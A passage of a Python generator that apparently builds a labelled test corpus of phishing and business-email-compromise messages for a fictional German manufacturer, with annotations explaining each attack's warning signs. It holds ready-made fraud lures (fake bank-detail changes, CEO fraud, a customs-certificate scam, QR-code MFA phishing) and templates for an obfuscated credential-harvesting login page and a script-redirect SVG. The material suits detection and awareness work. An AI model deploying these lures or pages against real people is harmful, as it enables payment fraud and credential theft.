    return Infra(helo, rdns, ip, mid=mid or dmid, bstyle=bstyle, hdrs=hdrs, hops=[hops], tls=tls, label=label or helo)


INTERNAL = "INTERNAL"


def internal(client="Outlook"):
    def mid(r, frm):
        return "<%s@EX01.ad.example.com>" % rhex(r, 32)

    def hops(r, sent):
        return ["Received: from EX01.ad.example.com (ex01.ad.example.com [10.20.1.31])\n\tby mail-int01.example.com (Postfix) with ESMTPS id %s;\n\t%s" % (ralnum(r, 11, "BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz0123456789"), rfcdate(sent.astimezone(CET)))]
    h = ["X-Mailer: Microsoft Outlook 16.0", "Thread-Index: %THREADIDX%", "Content-Language: %LANG%", "X-MS-Has-Attach: %HASATT%",
         "X-MS-Exchange-Organization-AuthAs: Internal", "X-Originating-IP: [10.%d.%d.%d]"]
    inf = Infra("mail-int01.example.com", "mail-int01.example.com", "10.20.0.25", mid=mid, bstyle="exch", hdrs=h, hops=[hops], label="internal relay")
    inf.internal = True
    return inf


def bulk(helo, rdns, ip, bstyle="java", hdrs=(), mid_dom=None, label=""):
    def mid(r, frm):
        return "<%s.%s@%s>" % (ralnum(r, 22, "abcdefghijklmnopqrstuvwxyz0123456789"), rhex(r, 8), mid_dom or helo)
    return Infra(helo, rdns, ip, mid=mid, bstyle=bstyle, hdrs=hdrs, label=label or helo)


# ---------------------------------------------------------------------------
# staff and correspondents
# ---------------------------------------------------------------------------

STAFF = [
    # key, name, address, role, office
    ("berger", "Thomas Berger", "thomas.berger@example.com", "Chief Executive Officer (Geschäftsführer)", "Heilbronn HQ, DE"),
    ("hoffmann", "Claudia Hoffmann", "claudia.hoffmann@example.com", "Chief Financial Officer", "Heilbronn HQ, DE"),
    ("krueger", "Sabine Krüger", "sabine.krueger@example.com", "Accounts Payable (Kreditorenbuchhaltung)", "Heilbronn HQ, DE"),
    ("lehmann", "Anna Lehmann", "anna.lehmann@example.com", "HR / Payroll (Entgeltabrechnung)", "Heilbronn HQ, DE"),
    ("schneider", "Julia Schneider", "julia.schneider@example.com", "Head of HR", "Heilbronn HQ, DE"),
    ("weber", "Markus Weber", "markus.weber@example.com", "Head of IT", "Heilbronn HQ, DE"),
    ("zimmermann", "Lukas Zimmermann", "lukas.zimmermann@examplegroup.eu", "IT Systems Administrator (M365, EDI)", "Heilbronn HQ, DE"),
    ("wolf", "Andreas Wolf", "andreas.wolf@example.com", "Sales Director OEM / Tier-1", "Heilbronn HQ, DE"),
    ("becker", "Katrin Becker", "katrin.becker@example.com", "Quality Manager (IATF 16949, 8D, PPAP)", "Heilbronn HQ, DE"),
    ("fischer", "Jens Fischer", "jens.fischer@example.com", "Purchasing Manager (steel, resin, tooling)", "Heilbronn HQ, DE"),
    ("koch", "Stefanie Koch", "stefanie.koch@example.com", "Logistics & Customs Coordinator", "Heilbronn HQ, DE"),
    ("braun", "Monika Braun", "monika.braun@example.com", "Executive Assistant / Office Manager HQ", "Heilbronn HQ, DE"),
    ("romano", "Giulia Romano", "giulia.romano@example.com", "Office Manager Italy", "Brescia, IT"),
    ("bianchi", "Marco Bianchi", "marco.bianchi@examplegroup.eu", "Local Accounting Italy", "Brescia, IT"),
    ("greco", "Alessandro Greco", "alessandro.greco@example.com", "Sales Italy", "Brescia, IT"),
    ("kowalski", "Piotr Kowalski", "piotr.kowalski@example.com", "Office / Plant Manager Poland", "Wrocław, PL"),
    ("nowak", "Agnieszka Nowak", "agnieszka.nowak@example.com", "Local Accounting Poland (Główna księgowa)", "Wrocław, PL"),
    ("wisniewska", "Katarzyna Wiśniewska", "katarzyna.wisniewska@example.com", "Quality Engineer Poland", "Wrocław, PL"),
    ("garcia", "Laura García", "laura.garcia@example.com", "Office Manager Spain", "Zaragoza, ES"),
    ("martinez", "Javier Martínez", "javier.martinez@example.com", "Local Accounting Spain", "Zaragoza, ES"),
    ("papadopoulos", "Nikos Papadopoulos", "nikos.papadopoulos@example.com", "Office Manager Greece", "Thessaloniki, GR"),
    ("georgiou", "Eleni Georgiou", "eleni.georgiou@examplegroup.eu", "Local Accounting Greece", "Thessaloniki, GR"),
    ("whitfield", "James Whitfield", "james.whitfield@example.com", "Office Manager & Sales UK", "Coventry, UK"),
    ("collins", "Sarah Collins", "sarah.collins@example.com", "Local Accounting UK", "Coventry, UK"),
    ("sokolov", "Dmitry Sokolov", "dmitry.sokolov@examplegroup.eu", "Office Manager Russia", "Nizhny Novgorod, RU"),
    ("ivanova", "Olga Ivanova", "olga.ivanova@example.com", "Local Accounting Russia (главный бухгалтер)", "Nizhny Novgorod, RU"),
]
S = {k: (n, a) for k, n, a, _, _ in STAFF}

# genuine correspondent bank accounts (all with valid checks)
IBAN_LIEFERANT_OLD = de_iban("62050000", "001842771")      # Kreissparkasse Heilbronn style, method 00
IBAN_LIEFERANT_NEW = de_iban("62090100", "047118300")      # Volksbank after merger (genuine change)
IBAN_LIEFERANT_FRAUD = de_iban("10011001", "262793511")    # N26 range (fraudulent)
IBAN_FERRETTI = it_iban("03069", "11210", "100000004821")   # Intesa Sanpaolo style
IBAN_FERRETTI_FRAUD = it_iban("36772", "22300", "000000917733")  # payment institution range
IBAN_PARTNER = pl_iban("114", "2007", "0000340519328817")   # mBank
IBAN_PARTNER_NEW = pl_iban("124", "0670", "1111001092746210")  # Pekao (genuine change)
IBAN_PARTNER_FRAUD = pl_iban("109", "0247", "0000000153720981")  # Santander (fraud)
IBAN_EXAMPLE_DE = de_iban("60050101", "740501234")
IBAN_MIDLANDS = gb_iban("NWBK", "601613", "48702215")
IBAN_MIDLANDS_FRAUD = gb_iban("SRLG", "608371", "74219035")   # Starling range (fraud)
IBAN_LT_MULE = lt_iban("32500", "09837261540")
IBAN_EBRO = es_iban("2085", "0168", "0300451977")
IBAN_EBRO_FRAUD = es_iban("1465", "0100", "9417350286")
IBAN_THESS = gr_iban("017", "0223", "0000223048113520")
IBAN_THESS_FRAUD = iban("BG", "STSA9300" + "0027193845")   # Bulgarian mule
IBAN_HOLZ_PAYROLL_FRAUD = de_iban("10011001", "208851471")
IBAN_PL_PAYROLL_FRAUD = pl_iban("249", "1028", "0000000099731206")  # Alior range
def pt_iban(bank4, branch4, acc11):
    b19 = bank4 + branch4 + acc11
    return iban("PT", b19 + "%02d" % (98 - int(b19) * 100 % 97))


IBAN_TRANSITES_FRAUD = pt_iban("0023", "0000", "45617239004")
for _i in (IBAN_LIEFERANT_OLD, IBAN_LIEFERANT_NEW, IBAN_LIEFERANT_FRAUD, IBAN_FERRETTI, IBAN_FERRETTI_FRAUD,
           IBAN_PARTNER, IBAN_PARTNER_NEW, IBAN_PARTNER_FRAUD, IBAN_EXAMPLE_DE, IBAN_MIDLANDS, IBAN_MIDLANDS_FRAUD, IBAN_LT_MULE,
           IBAN_EBRO, IBAN_EBRO_FRAUD, IBAN_THESS, IBAN_THESS_FRAUD, IBAN_HOLZ_PAYROLL_FRAUD, IBAN_PL_PAYROLL_FRAUD,
           IBAN_TRANSITES_FRAUD):
    assert iban_ok(_i), _i

# Russian requisites
BIK_SBER_NN = "042202603"      # Волго-Вятский банк ПАО Сбербанк (Нижний Новгород)
BIK_VOLGA_NEW = "042202824"
BIK_FRAUD = "044525974"
ACC_VAK = ru_account(BIK_SBER_NN, "40702", "810", "24220031587")
CORR_SBER = ru_corr(BIK_SBER_NN, "90000000603")
ACC_VAK_NEW = ru_account(BIK_VOLGA_NEW, "40702", "810", "50000017734")
CORR_VOLGA_NEW = ru_corr(BIK_VOLGA_NEW, "00000000824")
ACC_FRAUD = ru_account(BIK_FRAUD, "40702", "810", "10000082214")
CORR_FRAUD = ru_corr(BIK_FRAUD, "45250000974")
ACC_TRANSLOG_NEW = ru_account(BIK_VOLGA_NEW, "40702", "810", "90000064251")
INN_VAK = ru_inn10("526201734")
INN_TRANSLOG = ru_inn10("525703419")
INN_EXAMPLE_RU = ru_inn10("526014882")
NIP_PARTNER = pl_nip("894301223")
NIP_EXAMPLE_PL = pl_nip("899287450")
PIVA_FERRETTI = it_piva("0315492098")
PIVA_POLYRESIN = it_piva("0274118017")
USTID_LIEFERANT = de_ustid("81472963")
USTID_EXAMPLE = de_ustid("14588203")
AFM_THESS = gr_afm("09487312")
AFM_EXAMPLE_GR = gr_afm("80151263")

MESSAGES = []


def M(**kw):
    MESSAGES.append(kw)


def sig(key, lang="en", extra=""):
    name, a = S[key]
    role = [x for x in STAFF if x[0] == key][0][3]
    office = [x for x in STAFF if x[0] == key][0][4]
    comp = {"DE": "Example Group GmbH | Industriestraße 12 | 74076 Heilbronn | Germany\nTel. +49 7131 92800-0",
            "IT": "Example Italia S.r.l. | Via Triumplina 180 | 25136 Brescia (BS)\nTel. +39 030 2009 411",
            "PL": "Example Polska sp. z o.o. | ul. Krakowska 141 | 50-428 Wrocław\nTel. +48 71 330 52 00",
            "ES": "Example Ibérica S.L. | Polígono Plaza, C/ Tarento 9 | 50197 Zaragoza\nTel. +34 976 30 41 20",
            "GR": "Example Hellas Μ.Ε.Π.Ε. | ΒΙ.ΠΕ. Σίνδου, Οδός Γ' | 57022 Θεσσαλονίκη\nΤηλ. +30 2310 798 400",
            "UK": "Example UK Ltd | Unit 4, Siskin Parkway East | Coventry CV3 4PE\nTel. +44 24 7630 5100",
            "RU": "ООО «Экзампл Рус» | ул. Бетанкура, 1 | 603001 Нижний Новгород\nТел. +7 831 262-18-40"}[office.split(", ")[1]]
    return "-- \n%s\n%s\n%s\n%s%s" % (name, role if lang == "en" else extra or role, comp, a, "")


# ---------------------------------------------------------------------------
# message assembly
# ---------------------------------------------------------------------------

def build_message(m):
    r = rng("msg", m["file"])
    inf = m["infra"]
    sent = parse_local(m["date"], m.get("tz", "+0100"))
    recv = (sent + dt.timedelta(seconds=m.get("delay", r.randint(2, 38)))).astimezone(CET)
    to = m["to"]
    rcpt = m.get("rcpt") or to[0][1]
    cs = m.get("cs", "utf-8")
    hmode = m.get("hmode", "B" if cs.lower() in ("utf-8", "koi8-r", "windows-1251", "iso-8859-7", "windows-1253") else "Q")
    hcs = m.get("hcs", cs)

    qid = ralnum(r, 12, "BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz0123456789")
    qid = "4" + r.choice("RSTVW") + qid
    H = []
    rp = m.get("return_path", m["from"][1])
    H.append("Return-Path: <%s>" % rp)
    if getattr(inf, "internal", False):
        H.append("Received: from mail-int01.example.com (mail-int01.example.com [10.20.0.25])\n\t"
                 "(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n\t"
                 " key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n\t"
                 "(No client certificate requested)\n\t"
                 "by mx01.example.com (Postfix) with ESMTPS id %s\n\tfor <%s>; %s" % (qid, rcpt, rfcdate(recv, "CET")))
    else:
        tls = ""
        if inf.tls:
            tls = ("\t(using TLSv1.%s with cipher %s)\n\t(No client certificate requested)\n" %
                   (("3", "TLS_AES_256_GCM_SHA384 (256/256 bits)\n\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256")
                    if inf.tls is True else ("2", "ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)")))
        H.append("Received: from %s (%s [%s])\n%s\tby mx01.example.com (Postfix) with %s id %s\n\tfor <%s>; %s" %
                 (inf.helo, inf.rdns, inf.ip, tls, "ESMTPS" if inf.tls else "ESMTP", qid, rcpt, rfcdate(recv, "CET")))
    for hop in inf.hops:
        for h in hop(r, sent) if callable(hop) else [hop]:
            H.append(h.replace("%RCPT%", rcpt))
    for h in m.get("extra_received", []):
        H.append(h)

    atts = m.get("atts", [])
    inline = m.get("inline", [])
    hdr = []
    fn, fa = m["from"]
    hdr.append("From: " + addr(fn, fa, hcs, hmode))
    def alist(lst):
        return ",\n\t".join(addr(n, a, hcs, hmode) for n, a in lst)
    if m.get("to_raw"):
        hdr.append("To: " + m["to_raw"])
    else:
        hdr.append("To: " + alist(to))
    if m.get("cc"):
        hdr.append("Cc: " + alist(m["cc"]))
    subj = m["subject"]
    if all(ord(c) < 128 for c in subj):
        hdr.append(fold("Subject", subj))
    else:
        hdr.append("Subject: " + ew(subj, hcs, hmode))
    if m.get("thread_topic") is not None or "Thread-Index: %THREADIDX%" in inf.hdrs or any(h.startswith("Accept-Language") for h in inf.hdrs):
        tt = m.get("thread_topic", subj.split(": ", 1)[-1] if subj.lower().startswith(("re:", "aw:", "wg:", "fw:", "r:", "odp:", "re :")) else subj)
        hdr.append("Thread-Topic: " + (tt if all(ord(c) < 128 for c in tt) else ew(tt, hcs, hmode)))
        hdr.append("Thread-Index: " + base64.b64encode(bytes(r.randrange(256) for _ in range(22 + 5 * m.get("thread_depth", 0)))).decode())
    hdr.append("Date: " + rfcdate(sent))
    mid = m.get("message_id") or (inf.mid(r, fa) if inf.mid else _mid_default(r, fa.split("@")[1]))
    hdr.append("Message-ID: " + mid)
    if m.get("in_reply_to"):
        hdr.append("In-Reply-To: " + m["in_reply_to"])
        hdr.append(fold("References", m.get("references", m["in_reply_to"])))
    if m.get("reply_to"):
        hdr.append("Reply-To: " + addr(m["reply_to"][0], m["reply_to"][1], hcs, hmode))
    has_att = "yes" if atts else "no"
    for h in inf.hdrs:
        if h.startswith("Thread-Index: %THREADIDX%"):
            continue
        h = h.replace("%HASATT%", has_att).replace("%LANG%", m.get("content_lang", "de-DE"))
        if "%TMN%" in h:
            h = h.replace("%TMN%", ralnum(r, 32, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"))
        if "X-Originating-IP: [10.%d" in h:
            h = "X-Originating-IP: [10.%d.%d.%d]" % (r.choice((20, 21, 22, 23, 24, 25, 26)), r.randint(10, 60), r.randint(2, 250))
        hdr.append(h)
    for h in m.get("hdrs", []):
        hdr.append(h)

    # body tree
    tcte = m.get("cte", "quoted-printable")
    hcte = m.get("html_cte", tcte)
    hcs_body = m.get("html_cs", cs)
    parts = []
    if m.get("text") is not None:
        parts.append(text_part(m["text"], cs, tcte, "plain", m.get("text_extra", "")))
    if m.get("html") is not None:
        parts.append(text_part(m["html"], hcs_body, hcte, "html"))
    main = parts[0] if len(parts) == 1 else Part("multipart/alternative", parts=parts)
    if inline:
        main = Part("multipart/related", parts=[main] + inline, params='; type="%s"' % ("multipart/alternative" if len(parts) > 1 else "text/html"))
    if atts:
        main = Part("multipart/mixed", parts=[main] + atts)
    bg = boundary_style(m.get("bstyle", inf.bstyle), r)
    ct, phs, pb = render(main, bg)
    hdr.append("MIME-Version: 1.0")
    hdr.append("Content-Type: " + ct)
    for h in phs:
        hdr.append(h)
    head = "\n".join(H + hdr) + "\n\n"
    pre = b""
    if main.parts is not None:
        pre = m.get("preamble", b"This is a multi-part message in MIME format.\n\n" if inf.bstyle in ("tb", "exch") else b"")
    data = head.encode("ascii") + pre + pb
    data = data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    return data


def write_all():
    seen = set()
    for m in MESSAGES:
        assert m["file"] not in seen, m["file"]
        seen.add(m["file"])
        d = os.path.join(ROOT, m["kind"])
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, m["file"]), "wb") as f:
            f.write(build_message(m))


# ---------------------------------------------------------------------------
# content helpers
# ---------------------------------------------------------------------------

def P(k):
    return S[k]


def pdf_att(fname, lines, title=None, qr=None, author="", creator="Microsoft Word for Microsoft 365", cs="utf-8"):
    return att_part(fname, "application/pdf", pdf_doc(lines, title or fname, qr=qr, author=author, creator=creator), cs=cs)


def phish_page(title, brand, email, url, note):
    """HTML attachment imitating a sign-in page; target URL only atob()-encoded (typical)."""
    b64 = base64.b64encode(url.encode()).decode()
    em = base64.b64encode(email.encode()).decode()
    return ("""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>%s</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f3f2f1;margin:0}
.box{width:360px;margin:90px auto;background:#fff;padding:38px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%%;padding:8px 0;border:0;border-bottom:1px solid #666;margin:14px 0;font-size:15px}
button{background:#0067b8;color:#fff;border:0;padding:9px 30px;float:right}</style></head>
<body><!-- %s -->
<div class="box"><div style="font-size:20px;font-weight:600">%s</div>
<p style="font-size:13px;color:#444">%s</p>
<form id="f" method="post"><input id="e" name="login" type="email" readonly>
<input name="passwd" type="password" placeholder="Password" required>
<button type="submit">Sign in</button></form></div>
<script>var _0x=["%s","%s"];document.getElementById("e").value=atob(_0x[1]);
document.getElementById("f").action=atob(_0x[0])+"?e="+_0x[1];</script>
</body></html>
""" % (title, INERT.strip(), brand, note, b64, em)).encode("utf-8")


def redirect_svg(url, email):
    b64 = base64.b64encode((url + "#" + email).encode()).decode()
    return ("""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="595" height="842" viewBox="0 0 595 842">
<!-- %s -->
<rect width="595" height="842" fill="#ffffff"/>
<text x="48" y="80" font-family="Arial" font-size="18">Documento in caricamento...</text>
<script type="text/javascript"><![CDATA[
var d="%s";setTimeout(function(){window.location.href=atob(d);},400);
]]></script>
</svg>
""" % (INERT.strip(), b64)).encode("utf-8")


def qr_png_part(url, cid):
    return att_part(cid.split("@")[0] + ".png", "image/png", png_from_matrix(qr_matrix(url)), inline=True, cid=cid)


QR_URLS = {}


def ics(uid, summary, start, end, organizer, attendee, desc, url):
    def esc(s):
        return s.replace("\\", "\\\\").replace(",", "\\,").replace(";", "\\;").replace("\n", "\\n")
    lines = ["BEGIN:VCALENDAR", "PRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN", "VERSION:2.0", "METHOD:REQUEST",
             "BEGIN:VEVENT", "UID:" + uid, "DTSTAMP:20261118T081500Z", "DTSTART:" + start, "DTEND:" + end,
             "SUMMARY:" + esc(summary), "ORGANIZER;CN=%s:mailto:%s" % organizer,
             "ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:" + attendee,
             "DESCRIPTION:" + esc(desc), "LOCATION:" + esc(url), "URL:" + url, "STATUS:CONFIRMED", "END:VEVENT", "END:VCALENDAR"]
    out = []
    for l in lines:
        while len(l) > 74:
            out.append(l[:74])
            l = " " + l[74:]
        out.append(l)
    return ("\r\n".join(out) + "\r\n").encode("utf-8")


# ===========================================================================
# ATTACK - German
# ===========================================================================

M(kind="attack", file="01-de-lieferant-lookalike-bankwechsel-thread-hijack.eml", lang="de", cs="iso-8859-15", cte="quoted-printable",
  date="2026-11-09 10:42:17",
  infra=o365("FR2P281MB2417", "DEUP281", "mail-fr2deu01on2108.outbound.protection.outlook.com", "40.107.135.108", helo="DEU01-FR2-obe.outbound.protection.outlook.com"),
  return_path="s.maier@lieferant-grnbh.de",
  **{"from": ("Stefan Maier", "s.maier@lieferant-grnbh.de")},
  to=[P("krueger")], cc=[P("fischer")],
  subject="AW: Offene Posten Oktober / Zahlungslauf KW 46",
  in_reply_to="<3c1f0a9e2b6d4c7e9f1a2b3c4d5e6f70@EX01.ad.example.com>",
  references="<9b0e44c1d2f34a87b1c6e5d4a3f2e1d0@mail.lieferant-gmbh.de> <3c1f0a9e2b6d4c7e9f1a2b3c4d5e6f70@EX01.ad.example.com>",
  thread_depth=2,
  text="""Hallo Frau Krüger,

vielen Dank für die Aufstellung, die Posten stimmen mit unserer OP-Liste überein.

Wie ich Herrn Fischer letzte Woche am Telefon schon kurz gesagt hatte: Im Zuge unserer Umstellung auf den neuen Cash-Pool läuft unser bisheriges Konto bei der Kreissparkasse zum Monatsende aus, Eingänge werden dort ab sofort nicht mehr gebucht. Bitte nehmen Sie die beiden offenen Rechnungen für den Zahlungslauf KW 46 daher bereits auf die neue Verbindung:

  Kontoinhaber: Lieferant GmbH
  IBAN: %s
  BIC: NTSBDEB1XXX

  RE 2026-10417 vom 02.10.2026   27.940,80 EUR
  RE 2026-10452 vom 09.10.2026   20.376,80 EUR
  Summe                          48.317,60 EUR

Das offizielle Schreiben mit Unterschrift der Geschäftsführung reicht unsere Buchhaltung nach, die Kollegin ist diese Woche im Urlaub. Eine kurze Bestätigung, dass die Änderung im Kreditorenstamm hinterlegt ist, wäre nett.

Mit freundlichen Grüßen

Stefan Maier
Vertrieb Innendienst

Lieferant GmbH
Robert-Bosch-Straße 31 | 74211 Leingarten
Tel. +49 7131 40 89 -217
s.maier@lieferant-gmbh.de
Amtsgericht Stuttgart HRB 731904 | USt-IdNr. %s

-----Ursprüngliche Nachricht-----
Von: Sabine Krüger <sabine.krueger@example.com>
Gesendet: Donnerstag, 5. November 2026 15:08
An: Stefan Maier <s.maier@lieferant-gmbh.de>
Cc: Jens Fischer <jens.fischer@example.com>
Betreff: Offene Posten Oktober / Zahlungslauf KW 46

Hallo Herr Maier,

anbei wie besprochen unsere OP-Liste zu Ihren Oktober-Rechnungen. Die Zahlung ist für den Lauf in KW 46 eingeplant.

Viele Grüße
Sabine Krüger
Kreditorenbuchhaltung
Example Group GmbH
""" % (iban_fmt(IBAN_LIEFERANT_FRAUD), USTID_LIEFERANT),
  what="Thread-hijack supplier bank-detail change: quotes a real AP thread, asks to pay 48,317.60 EUR to a new N26 IBAN; the signature even shows the genuine address.",
  why="ATTACK (BEC): sent from look-alike domain lieferant-grnbh.de ('rn' for 'm') via a fresh Microsoft 365 tenant; genuine supplier mails come from mail.lieferant-gmbh.de. Neobank IBAN, promised letter 'to follow', request to confirm the change.")

M(kind="attack", file="02-de-ceo-fraud-projekt-falke.eml", lang="de", cs="utf-8", cte="quoted-printable",
  date="2026-11-12 07:51:03",
  infra=server("mail.examplegroup-eu.com", "vps-2b7c1e55.vps.ovh.net", "51.178.92.144", "examplegroup-eu.com",
               bstyle="apple", hdrs=["X-Mailer: iPhone Mail (22B91)"]),
  **{"from": ("Thomas Berger", "thomas.berger@examplegroup-eu.com")},
  to=[P("hoffmann")],
  subject="Projekt Falke – vertraulich",
  text="""Guten Morgen Claudia,

ich bin heute und morgen in Frankfurt in Gesprächen zu einer Übernahme, über die ich Dich bisher nicht informieren konnte (NDA, auch im Beirat noch nicht kommuniziert). Wir brauchen heute eine Anzahlung auf das Treuhandkonto der begleitenden Kanzlei, sonst verlieren wir die Exklusivität.

Dr. Martin Roth von der Kanzlei wird Dich im Laufe des Vormittags kontaktieren und Dir die Details und die Kontoverbindung geben. Bitte sprich mit niemandem im Haus darüber, auch nicht mit Sabine, bis wir am Freitag die Ad-hoc-Kommunikation abgestimmt haben.

Kannst Du mir kurz Deine Handynummer schicken? Ich bin im Termin und kann nur per WhatsApp schreiben.

Danke Dir
Thomas

Von meinem iPhone gesendet""",
  text_extra="; format=flowed",
  what="CEO fraud ('fake president'): CEO asks the CFO for secrecy, announces an external 'lawyer' and wants her mobile number for WhatsApp.",
  why="ATTACK (BEC): look-alike domain examplegroup-eu.com on an OVH VPS; asks to bypass internal controls and move to an unmonitored channel; no link or attachment so content filters see nothing.")

_zoll_url = "https://zollportal-service.de/bug/anmeldung?kid=EORI-DE471120390000&t=" + "7f3a9c21"
M(kind="attack", file="03-de-zoll-portal-zertifikat-ablauf.eml", lang="de", cs="utf-8", cte="quoted-printable",
  date="2026-11-16 06:12:44",
  infra=bulk("o3.ptr4471.zollportal-service.de", "wfbtzbfm.outbound-mail.sendgrid.net", "149.72.154.232", bstyle="gmail",
             hdrs=["X-SG-EID: u001.Tq" + "8bT1xYw2Q0fLrVg7nA3kPz6cH5dE4sJ9mU2vR1wX0yZ", "X-Entity-ID: u001.Zk3pR9vT2qN8w"], mid_dom="geopod-ismtpd-3"),
  return_path="bounces+48213377-9c1a-stefanie.koch=example.com@em4471.zollportal-service.de",
  **{"from": ("Zoll-Portal | Generalzolldirektion", "noreply@zollportal-service.de")},
  to=[P("koch")],
  subject="Ihr Zoll-Portal Geschäftskundenkonto: ELSTER-Zertifikat läuft am 30.11.2026 ab",
  text="""Zoll-Portal – Bürger- und Geschäftskundenportal der Zollverwaltung

Sehr geehrte Nutzerin, sehr geehrter Nutzer,

das für Ihr Organisationskonto hinterlegte ELSTER-Organisationszertifikat (EORI-Nummer DE471120390000, Example Group GmbH) läuft am 30.11.2026 ab.

Nach Ablauf können keine Nachrichten aus ATLAS-Einfuhr und ATLAS-Ausfuhr mehr abgerufen und keine Bescheide über Einfuhrabgaben mehr elektronisch zugestellt werden. Laufende Vorgänge in der Verwahrung werden dann nach Fristablauf gemäß Art. 149 UZK behandelt.

Bitte bestätigen Sie die Verlängerung rechtzeitig:
%s

Die Verlängerung dauert ca. 2 Minuten. Halten Sie Ihre Zertifikatsdatei (.pfx) und die PIN bereit.

Mit freundlichen Grüßen
Ihr Service-Team Zoll-Portal
Generalzolldirektion – Direktion IX

Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese Nachricht.""" % _zoll_url,
  html="""<html><body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#1a1a1a">
<table width="640" cellpadding="0" cellspacing="0" style="border-top:6px solid #00528c"><tr><td style="padding:18px 24px">
<div style="font-size:20px;color:#00528c;font-weight:bold">Zoll-Portal</div>
<div style="font-size:12px;color:#666">Bürger- und Geschäftskundenportal der Zollverwaltung</div>
<p>Sehr geehrte Nutzerin, sehr geehrter Nutzer,</p>
<p>das für Ihr Organisationskonto hinterlegte <b>ELSTER-Organisationszertifikat</b> (EORI-Nummer DE471120390000, Example Group GmbH) läuft am <b>30.11.2026</b> ab.</p>
<p>Nach Ablauf können keine Nachrichten aus ATLAS-Einfuhr und ATLAS-Ausfuhr mehr abgerufen und keine Bescheide über Einfuhrabgaben mehr elektronisch zugestellt werden. Laufende Vorgänge in der Verwahrung werden dann nach Fristablauf gemäß Art. 149 UZK behandelt.</p>
<p style="margin:26px 0"><a href="%s" style="background:#00528c;color:#fff;padding:11px 22px;text-decoration:none">Zertifikat jetzt verlängern</a></p>
<p>Die Verlängerung dauert ca. 2 Minuten. Halten Sie Ihre Zertifikatsdatei (.pfx) und die PIN bereit.</p>
<p>Mit freundlichen Grüßen<br>Ihr Service-Team Zoll-Portal<br>Generalzolldirektion &ndash; Direktion IX</p>
<p style="font-size:11px;color:#888">Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese Nachricht.</p>
</td></tr></table><img src="https://u48213377.ct.sendgrid.net/wf/open?upn=u001.x7Qz" width="1" height="1" alt=""></body></html>""" % _zoll_url,
  what="Fake German customs (Zoll-Portal / GZD) notice: ELSTER organisation certificate 'expires', asks to upload .pfx file and PIN.",
  why="ATTACK (credential/certificate theft): zollportal-service.de is not zoll-portal.de; sent through SendGrid; the real portal never asks for the certificate file by mail link. Trade-specific lure (ATLAS, EORI, UZK).")

_qr1 = "https://sso-m365-verify.com/mfa/?u=" + base64.urlsafe_b64encode(b"katrin.becker@example.com").decode().rstrip("=")
QR_URLS["04"] = _qr1
M(kind="attack", file="04-de-quishing-mfa-neuregistrierung.eml", lang="de", cs="utf-8", cte="base64",
  date="2026-11-18 08:03:29",
  infra=server("dd44817.kasserver.com", "dd44817.kasserver.com", "85.13.163.71", "tischlerei-hartmann-ahlen.de",
               bstyle="php", hdrs=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"]),
  return_path="info@tischlerei-hartmann-ahlen.de",
  **{"from": ("IT-Service Example Group", "info@tischlerei-hartmann-ahlen.de")},
  to=[P("becker")],
  subject="Handlungsbedarf: Microsoft Authenticator-Neuregistrierung bis 21.11.2026",
  html="""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Segoe UI,Calibri,Arial,sans-serif;font-size:14px">
<p>Hallo Katrin Becker,</p>
<p>im Rahmen der Umstellung auf die neuen Microsoft-Entra-Richtlinien (Phishing-resistente MFA) muss jedes Konto der Example Group den Authenticator bis <b>Samstag, 21.11.2026</b> neu registrieren. Nicht umgestellte Konten werden anschließend für Outlook, Teams und das Lieferantenportal gesperrt.</p>
<p>Bitte scannen Sie den folgenden Code mit der Kamera Ihres <b>Smartphones</b> (nicht am PC) und folgen Sie den Anweisungen:</p>
<p><img src="cid:mfa-qr@example.com" width="222" height="222" alt="QR"></p>
<p>Referenz: ENTRA-MFA-2026-4471<br>Dauer: ca. 1 Minute</p>
<p>Vielen Dank für Ihre Unterstützung<br>IT-Service / Service Desk<br>Example Group GmbH</p>
</body></html>""",
  inline=[qr_png_part(_qr1, "mfa-qr@example.com")],
  what="Quishing: 'IT service' asks to re-register Microsoft Authenticator by scanning a QR code with the phone.",
  why="ATTACK (credential phishing / AiTM): sent from a compromised joinery website (PHPMailer on kasserver.com) with internal display name; the only URL is inside a decodable QR image (sso-m365-verify.com with base64 victim address), which moves the click to an unmanaged phone.")

_avis_url = "https://nordwerk-avis.com/owa/auth/view.php"
M(kind="attack", file="05-de-zahlungsavis-html-anhang.eml", lang="de", cs="iso-8859-1", cte="quoted-printable",
  date="2026-11-20 13:27:51",
  infra=bulk("m228-17.mailgun.net", "m228-17.mailgun.net", "159.135.228.17", bstyle="java",
             hdrs=["X-Mailgun-Sid: WyI3ZjE0YiIsImNsYXVkaWEuaG9mZm1hbm5AZXhhbXBsZS5jb20iLCJhNGQxIl0=",
                   "X-Mailgun-Variables: {\"campaign\": \"avis\"}"], mid_dom="nordwerk-automotive.eu"),
  return_path="bounce+4d91ab.7f2e-claudia.hoffmann=example.com@nordwerk-automotive.eu",
  **{"from": ("Nordwerk Automotive SE - Kreditorenbuchhaltung", "zahlungsavis@nordwerk-automotive.eu")},
  to=[P("hoffmann")],
  subject="Zahlungsavis 0046127733 / Lieferantennr. 700418",
  text="""Sehr geehrte Damen und Herren,

anbei erhalten Sie das Zahlungsavis zu unserer heutigen Zahlung.

